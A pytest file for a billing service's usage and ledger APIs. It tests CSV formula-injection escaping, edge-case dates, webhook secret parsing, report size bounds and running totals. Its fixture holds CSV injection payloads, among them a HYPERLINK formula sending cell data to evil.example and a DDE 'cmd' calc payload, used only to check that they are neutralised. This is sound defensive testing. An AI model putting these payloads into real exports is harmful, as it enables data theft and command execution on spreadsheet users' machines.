"""Issue 18, the reports' defects (billing-rules.md, "Where features meet"), through the handlers:

6. CSV cells a spreadsheet would run as a formula are written with a leading ``'`` (numbers stay).
7. Valid input never gets a 5xx: a tiny usage's projected run-out, the calendar's ends, a webhook
   secret that starts with ``{`` but is not JSON.
8. Every answer is bounded: a report larger than 5 MB, or reading more than 1,000 items, is a 400 that
   says how to narrow it.
14. A series' ``amount`` is always the period's own amount; ``cumulative`` the running sum.

Prices (Membership, default catalog): small 6.80 cr/h, micro 1.96 cr/h, 15 GB of storage free per
container (the containers here have 5 GB: storage costs nothing), gpt-5-nano 0.000004 cr per input
token; 1 credit = $0.02.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from billing.api.signatures import sign
from billing.domain.spreadsheet import csv_text, safe_cell
from billing.services import usage as usage_service
from billing.store.cursors import CursorCodec
from billing.store.ledger import Ledger
from tests.api_helpers import FakeContext, api_event, call
from tests.helpers import C, Platform, load_handler

NOW = datetime(2026, 3, 5, tzinfo=UTC)
HOSTILE = {
    "c1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "c2": "+cmd|' /C calc'!A0",
    "c3": "@SUM(1+1)",
    "c4": "-2+3",
    "c5": "core",
}
RANGE = {"from": "2026-03-02", "to": "2026-03-04"}


def usage_api(ledger: Ledger, now: datetime = NOW) -> Any:
    return load_handler("usage_api", ledger=ledger, cursor_codec=CursorCodec("s"), clock=lambda: now)


def run(p: Platform, container: str, tier: str, start: str, stop: str) -> None:
    p.send("Container Started", start, container_id=container, run_id=f"r-{container}-{start}", tier=tier)
    p.send("Container Stopped", stop, container_id=container, run_id=f"r-{container}-{start}", traffic_bytes=0)


@pytest.fixture()
def hostile(ledger: Ledger) -> Platform:
    """Five containers labelled team=<what a spreadsheet would run>, one run each:
    Mar 2: c1 small 10-11 = 6.80.  Mar 3: c2 micro 10-11 and c3 micro 12-13 = 3.92.
    Mar 4: c4 micro 10-11 = 1.96 and c5 small 12-13 = 6.80: 8.76.  In all 19.48."""
    p = Platform(ledger, "acct-m")
    p.send("Account Created", "2026-03-01T00:00:00Z", email="m@example.com", plan="membership")
    for cid, team in HOSTILE.items():
        p.send("Container Created", "2026-03-01T00:00:00Z", container_id=cid, storage_gb=5, labels={"team": team})
    run(p, "c1", "small", "2026-03-02T10:00:00Z", "2026-03-02T11:00:00Z")
    run(p, "c2", "micro", "2026-03-03T10:00:00Z", "2026-03-03T11:00:00Z")
    run(p, "c3", "micro", "2026-03-03T12:00:00Z", "2026-03-03T13:00:00Z")
    run(p, "c4", "micro", "2026-03-04T10:00:00Z", "2026-03-04T11:00:00Z")
    run(p, "c5", "small", "2026-03-04T12:00:00Z", "2026-03-04T13:00:00Z")
    return p


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# ---------------------------------------------------------------------- 6. formulas in CSV


def test_usage_csv_writes_label_values_that_would_run_as_text(hostile: Platform) -> None:
    api = usage_api(hostile.ledger)
    status, text, headers = call(api, api_event("/v1/usage.csv", {**RANGE, "group_by": "label:team"}, sub="acct-m"))
    assert status == 200 and headers["content-type"] == "text/csv"
    keys = {row[1] for row in csv_rows(text)[1:]}
    assert keys == {"'" + HOSTILE[c] for c in ("c1", "c2", "c3", "c4")} | {"core"}
    # The numbers are numbers: c1's 6.80 on Mar 2, nothing after.
    assert ["2026-03-02", "'" + HOSTILE["c1"], "6.800000", "6.800000"] in csv_rows(text)
    # No cell of the file starts a formula, whatever the column.
    for row in csv_rows(text):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell[1:].replace(".", "").isdigit(), cell


def test_the_ledger_csv_escapes_with_the_same_rule(hostile: Platform) -> None:
    from tests.helpers import grant

    # An operator's reason is free text: what it says is written as text.
    grant(hostile.ledger, "acct-m", "grant-1", datetime(2026, 3, 4, 14, tzinfo=UTC), "event", 5 * C, None,
          "=1+1")
    grant(hostile.ledger, "acct-m", "grant-2", datetime(2026, 3, 4, 15, tzinfo=UTC), "event", 5 * C, None,
          "@cmd")
    api = usage_api(hostile.ledger)
    status, text, _ = call(api, api_event("/v1/ledger", {"format": "csv"}, sub="acct-m"))
    assert status == 200
    rows = csv_rows(text)
    reasons = [row[4] for row in rows[1:]]
    assert "'=1+1" in reasons and "'@cmd" in reasons and "=1+1" not in reasons


@pytest.mark.parametrize(("cell", "written"), [
    ("=SUM(A1)", "'=SUM(A1)"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@A1", "'@A1"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"),
    ("-1.500000", "-1.500000"), ("-12", "-12"), ("+3.5", "+3.5"), ("0.37", "0.37"),  # numbers
    ("core", "core"), ("", ""), (" =1", " =1"), ("a=1", "a=1"),
])
def test_one_rule_for_every_cell(cell: str, written: str) -> None:
    assert safe_cell(cell) == written
    assert csv_rows(csv_text([[cell, "-1.500000"]])) == [[written, "-1.500000"]]


# ---------------------------------------------------------------------- 7. no 5xx on valid input


def test_a_tiny_usage_projects_no_run_out(ledger: Ledger) -> None:
    """One gpt-5-nano input token (0.000004 credits = 4 µcr) on Mar 1, read on Mar 5: the average is
    4 / 5 days = 0.8 -> 1 µcr a day (half-up); the month's 50 credits less 4 µcr would last
    49,999,996 days, past year 9999, which no time can be written as. The answer is null, as without
    usage: no run-out in sight (a made-up far date would read as a forecast)."""
    p = Platform(ledger, "acct-t")
    p.send("Account Created", "2026-03-01T00:00:00Z", email="t@example.com", plan="free")
    p.send("AI Usage Recorded", "2026-03-01T10:00:00Z", feature="snap", model="gpt-5-nano",
           input_tokens=1, output_tokens=0)
    api = usage_api(ledger)
    status, body, _ = call(api, api_event("/v1/usage", {}, sub="acct-t"))
    assert status == 200, body
    assert body["total"] == "0.000004" and body["average_daily"] == "0.000001"
    assert body["projected_run_out"] is None
    status, text, _ = call(api, api_event("/v1/usage.csv", {}, sub="acct-t"))
    assert status == 200 and csv_rows(text)[1] == ["2026-03-01", "0.000004", "0.000004"]


def test_a_run_out_within_the_calendar_is_still_projected(hostile: Platform) -> None:
    # 19.48 credits in Mar 1-5 (5 days): 3.896 a day. Membership's monthly grant less 19.48 remains.
    status, body, _ = call(usage_api(hostile.ledger), api_event("/v1/usage", {}, sub="acct-m"))
    assert status == 200 and body["average_daily"] == "3.896000"
    assert body["projected_run_out"] is not None and body["projected_run_out"] > "2026-03-05"


@pytest.mark.parametrize("query", [
    {"month": "9999-12"}, {"month": "0001-01"},
    {"from": "9999-12-31", "to": "9999-12-31"}, {"from": "0001-01-01", "to": "0001-01-01"},
    {"from": "9999-12-01", "to": "9999-12-31", "granularity": "month"},
    {"from": "0001-01-01", "to": "0001-01-01", "granularity": "hour", "group_by": "label:team"},
    {"from": "0001-01-01", "to": "0001-12-31", "granularity": "month", "unit": "usd"},
])
@pytest.mark.parametrize("path", ["/v1/usage", "/v1/usage.csv"])
def test_the_calendars_ends_are_answered(hostile: Platform, path: str, query: dict[str, str]) -> None:
    """Year 1 and year 9999 are valid dates: reported (nothing used then), never a 5xx."""
    status, body, _ = call(usage_api(hostile.ledger), api_event(path, query, sub="acct-m"))
    assert status == 200, body
    if path == "/v1/usage":
        assert body["total"] == "0.000000" or body["total"] == {"currency": "USD", "amount_minor": 0, "cents": 0}
        assert body["projected_run_out"] is None
        if query.get("month") == "9999-12":
            assert (body["from"], body["to"]) == ("9999-12-01", "9999-12-31")


@pytest.mark.parametrize("query", [
    {"from": "0001-01-01", "to": "9999-12-31"}, {"from": "9999-12-31"}, {"to": "0001-01-01"},
    {"from": "9999-12-31T23:59:59Z"}, {"from": "0001-01-01", "to": "9999-12-31", "format": "csv"},
])
def test_the_audit_log_at_the_calendars_ends(hostile: Platform, query: dict[str, str]) -> None:
    status, body, _ = call(usage_api(hostile.ledger), api_event("/v1/ledger", query, sub="acct-m"))
    assert status == 200, body


@pytest.mark.parametrize("secret", ["{not json", "{", '{"current": ', "{x}"])
def test_a_webhook_secret_that_starts_with_a_brace_is_the_secret(
    ledger: Ledger, monkeypatch: pytest.MonkeyPatch, secret: str
) -> None:
    """A secret is any text; only a JSON object with ``current`` is the rotation form. Text that starts
    with ``{`` and is not JSON is the secret itself: notices signed with it are paid (it was a 500 on
    every signed notice)."""
    paid = _pay_with_configured_secret(ledger, monkeypatch, stored=secret, signing=secret)
    assert paid == (200, "paid")


def test_the_rotation_form_still_holds_two_secrets(ledger: Ledger, monkeypatch: pytest.MonkeyPatch) -> None:
    stored = json.dumps({"current": "new-secret", "previous": "old-secret"})
    assert _pay_with_configured_secret(ledger, monkeypatch, stored=stored, signing="old-secret") == (200, "paid")


def test_a_rotation_form_without_a_secret_is_a_clear_configuration_error(
    ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``{"current": 5}`` is the rotation form holding no secret: the operator's mistake, answered 503
    ``not_configured`` with a message (never a 500), and nothing is written."""
    status, code = _pay_with_configured_secret(ledger, monkeypatch, stored='{"current": 5}', signing="5")
    assert (status, code) == (503, "not_configured")


def _pay_with_configured_secret(
    ledger: Ledger, monkeypatch: pytest.MonkeyPatch, stored: str, signing: str
) -> tuple[int, str]:
    """Buy 100 credits, then pay with the payment webhook reading its secret as deployed (Secrets
    Manager through Powertools, here a stand-in): (status, the purchase's status or the error code)."""
    from aws_lambda_powertools.utilities import parameters

    from tests.test_account_api import FixedClock, http_event

    clock = FixedClock("2026-01-10T10:00:00Z")
    Platform(ledger, "acct-1").send("Account Created", "2026-01-01T00:00:00Z", email="a@example.com", plan="free")
    accounts = load_handler("account_api", ledger=ledger, clock=clock)
    response = accounts.lambda_handler(http_event("POST", "/v1/purchases", {"credits": 100}), FakeContext())
    purchase = json.loads(response["body"])
    assert response["statusCode"] == 201, purchase
    monkeypatch.setenv("PAYMENT_WEBHOOK_SECRET_ARN", "arn:aws:secretsmanager:us-east-1:123456789012:secret:hook")
    monkeypatch.setattr(parameters, "get_secret", lambda arn, max_age=None: stored)
    webhook = load_handler("payment_webhook", ledger=ledger, clock=clock)
    raw = json.dumps({"id": "pay-1", "type": "payment.succeeded", "purchase_id": purchase["purchase_id"],
                      "amount": purchase["price"], "created_at": "2026-01-10T10:00:00Z"})
    event = http_event("POST", "/v1/webhooks/payments", raw=raw, sub=None,
                       headers={"billing-signature": sign(raw, signing, int(clock().timestamp()))})
    response = webhook.lambda_handler(event, FakeContext())
    body = json.loads(response["body"])
    if response["statusCode"] != 200:
        assert [lot for lot in ledger.load("acct-1").lots if lot.kind == "purchased"] == []  # nothing written
        return response["statusCode"], body["error"]["code"]
    return 200, body["status"]


# ---------------------------------------------------------------------- 8. bounded answers

TEAMS = [f"team-{i}-" + "x" * 50 for i in range(10)]  # 57 characters each (a label value is at most 64)


@pytest.fixture()
def ten_teams(ledger: Ledger) -> Platform:
    """Ten containers of ten teams, one micro hour each on 2026-03-0<i>."""
    p = Platform(ledger, "acct-b")
    p.send("Account Created", "2026-03-01T00:00:00Z", email="b@example.com", plan="membership")
    for i, team in enumerate(TEAMS):
        p.send("Container Created", "2026-03-01T00:00:00Z", container_id=f"c{i}", storage_gb=5,
               labels={"team": team})
        run(p, f"c{i}", "micro", f"2026-03-{i + 1:02d}T10:00:00Z", f"2026-03-{i + 1:02d}T11:00:00Z")
    return p


LATER = datetime(2027, 1, 3, tzinfo=UTC)  # the whole of 2026 has passed
YEAR = {"from": "2026-01-01", "to": "2026-12-31"}


@pytest.mark.parametrize("path", ["/v1/usage", "/v1/usage.csv"])
def test_a_year_by_the_hour_in_ten_groups_is_refused_with_how_to_narrow_it(ten_teams: Platform, path: str) -> None:
    """365 days x 24 hours = 8,760 periods, for the account and 10 teams: 96,360 points. As JSON a point
    is at least ``{"date":"2026-01-01T00","amount":"0.000000","cumulative":"0.000000"},`` (70 bytes):
    6.7 MB; as CSV a row is at least 13 + 57 + 8 + 8 + 3 commas + CRLF = 91 bytes for 87,600 rows:
    8.0 MB. Both over 5 MB: a 400 that says how to narrow it."""
    status, body, _ = call(usage_api(ten_teams.ledger, LATER), api_event(
        path, {**YEAR, "granularity": "hour", "group_by": "label:team"}, sub="acct-b"))
    assert status == 400, body
    message = body["error"]["message"]
    assert "5 MB" in message and "granularity" in message and "shorter range" in message and "filter" in message


@pytest.mark.parametrize("path", ["/v1/usage", "/v1/usage.csv"])
@pytest.mark.parametrize("query", [
    {"from": "2026-01-01", "to": "2027-01-01", "granularity": "day", "group_by": "label:team"},  # 366 days
    {"month": "2026-03", "granularity": "hour", "group_by": "label:team"},  # 744 hours
    {**YEAR, "granularity": "hour"},  # a year by the hour, ungrouped: 8,760 points, about 0.6 MB
    {**YEAR, "granularity": "hour", "group_by": "label:team", "label.team": TEAMS[3]},  # narrowed by a filter
])
def test_normal_reports_are_answered_within_5_mb(ten_teams: Platform, path: str, query: dict[str, str]) -> None:
    status, body, _ = call(usage_api(ten_teams.ledger, LATER), api_event(path, query, sub="acct-b"))
    assert status == 200, body
    size = len(body.encode()) if isinstance(body, str) else len(json.dumps(body, separators=(",", ":")))
    assert size <= 5 * 2**20
    if path == "/v1/usage":
        assert body["total"] in ("19.600000", "1.960000")  # 10 micro hours x 1.96, or team 3's one


def test_a_report_that_would_read_more_than_its_bound_is_refused(
    ten_teams: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Grouping by container reads every container's month items in one query (GSI1). The bound is 1,000
    items; here lowered to 5 so that 10 containers with one month item each pass it: refused with how
    to narrow it."""
    monkeypatch.setattr(usage_service, "MAX_ITEMS_READ", 5)
    api = usage_api(ten_teams.ledger, LATER)
    status, body, _ = call(api, api_event("/v1/usage", {"month": "2026-03", "group_by": "container"}, sub="acct-b"))
    assert status == 400, body
    assert "more than 5 items" in body["error"]["message"] and "container" in body["error"]["message"]
    status, body, _ = call(api, api_event("/v1/usage", {"month": "2026-03", "container_id": "c3"}, sub="acct-b"))
    assert status == 200 and body["total"] == "1.960000"
    # 10 containers with one month item each (their one micro hour; 5 GB of storage charges nothing):
    # 10 items, in one request. A bound of 9 stops at the tenth; a bound of 10 answers.
    monkeypatch.setattr(usage_service, "MAX_ITEMS_READ", 9)
    status, body, _ = call(api, api_event("/v1/usage", {"month": "2026-03", "group_by": "container"}, sub="acct-b"))
    assert status == 400 and "more than 9 items" in body["error"]["message"]
    monkeypatch.setattr(usage_service, "MAX_ITEMS_READ", 10)
    status, body, _ = call(api, api_event("/v1/usage", {"month": "2026-03", "group_by": "container"}, sub="acct-b"))
    assert status == 200 and len(body["groups"]) == 10


def test_the_ledger_csv_is_paged_within_its_bounds(hostile: Platform, monkeypatch: pytest.MonkeyPatch) -> None:
    """The audit log's CSV reads at most 1,000 entries and answers at most 5 MB, the rest behind
    ``X-Next-Cursor``. The byte bound lowered to 700 here: each page is cut before it, and following
    the cursors gives every entry once, in order."""
    from billing.api import reports

    api = usage_api(hostile.ledger)
    status, whole, _ = call(api, api_event("/v1/ledger", {"format": "csv"}, sub="acct-m"))
    everything = csv_rows(whole)[1:]
    assert status == 200 and reports.CSV_MAX_ROWS == 1_000 and len(everything) > 5
    monkeypatch.setattr(reports, "MAX_ANSWER_BYTES", 700)
    seen, cursor, pages = [], None, 0
    while True:
        status, text, headers = call(api, api_event("/v1/ledger", {"format": "csv", **({"cursor": cursor} if cursor
                                                                                        else {})}, sub="acct-m"))
        assert status == 200 and (len(text.encode()) <= 700 or len(csv_rows(text)) == 2)
        seen += csv_rows(text)[1:]
        pages += 1
        cursor = headers.get("x-next-cursor")
        if not cursor:
            break
    assert seen == everything and pages > 1


# ---------------------------------------------------------------------- 14. amount and cumulative


def points(series: list[dict[str, Any]]) -> list[tuple[str, Any, Any]]:
    return [(p["date"], p["amount"], p["cumulative"]) for p in series]


@pytest.mark.parametrize("cumulative", ["true", "false", None])
def test_amount_is_the_periods_own_and_cumulative_the_running_sum(hostile: Platform, cumulative: str | None) -> None:
    query = {**RANGE, "group_by": "label:team"} | ({"cumulative": cumulative} if cumulative else {})
    api = usage_api(hostile.ledger)
    status, body, _ = call(api, api_event("/v1/usage", query, sub="acct-m"))
    assert status == 200, body
    # Mar 2 6.80; Mar 3 1.96 + 1.96 = 3.92 (10.72 so far); Mar 4 1.96 + 6.80 = 8.76 (19.48).
    assert points(body["series"]) == [("2026-03-02", "6.800000", "6.800000"),
                                      ("2026-03-03", "3.920000", "10.720000"),
                                      ("2026-03-04", "8.760000", "19.480000")]
    core = next(g for g in body["groups"] if g["key"] == "core")
    assert points(core["series"]) == [("2026-03-02", "0.000000", "0.000000"), ("2026-03-03", "0.000000", "0.000000"),
                                      ("2026-03-04", "6.800000", "6.800000")]
    status, text, _ = call(api, api_event("/v1/usage.csv", query, sub="acct-m"))
    rows = csv_rows(text)
    assert ["2026-03-04", "core", "6.800000", "6.800000"] in rows
    assert ["2026-03-03", "'" + HOSTILE["c2"], "1.960000", "1.960000"] in rows
    assert ["2026-03-04", "'" + HOSTILE["c2"], "0.000000", "1.960000"] in rows
    status, text, _ = call(api, api_event("/v1/usage.csv", {k: v for k, v in query.items() if k != "group_by"},
                                          sub="acct-m"))
    assert csv_rows(text)[1:] == [["2026-03-02", "6.800000", "6.800000"], ["2026-03-03", "3.920000", "10.720000"],
                                  ["2026-03-04", "8.760000", "19.480000"]]


def test_dollars_per_period_add_up_to_the_cumulative_and_the_total(hostile: Platform) -> None:
    """Each cumulative is its exact running amount rounded once, half-up, to the cent, so the last one
    is the total; each period's amount is the step from the previous cumulative, so the amounts add up
    to the cumulative exactly (a period's amount may differ by a cent from its own rounding).
    At $0.02 a credit: running 6.80 -> 13.6 c -> 14; 10.72 -> 21.44 c -> 21; 19.48 -> 38.96 c -> 39.
    Amounts: 14, 21 - 14 = 7 (its own 7.84 c would round to 8), 39 - 21 = 18. Total 39."""
    def usd(cents: int) -> dict[str, Any]:
        return {"currency": "USD", "amount_minor": cents, "cents": cents}

    api = usage_api(hostile.ledger)
    for cumulative in ("true", "false"):
        status, body, _ = call(api, api_event("/v1/usage", {**RANGE, "unit": "usd", "cumulative": cumulative},
                                              sub="acct-m"))
        assert status == 200, body
        assert points(body["series"]) == [("2026-03-02", usd(14), usd(14)), ("2026-03-03", usd(7), usd(21)),
                                          ("2026-03-04", usd(18), usd(39))]
        assert body["total"] == usd(39)
    status, text, _ = call(api, api_event("/v1/usage.csv", {**RANGE, "unit": "usd"}, sub="acct-m"))
    assert csv_rows(text) == [["period", "amount_usd", "cumulative_usd"], ["2026-03-02", "0.14", "0.14"],
                              ["2026-03-03", "0.07", "0.21"], ["2026-03-04", "0.18", "0.39"]]
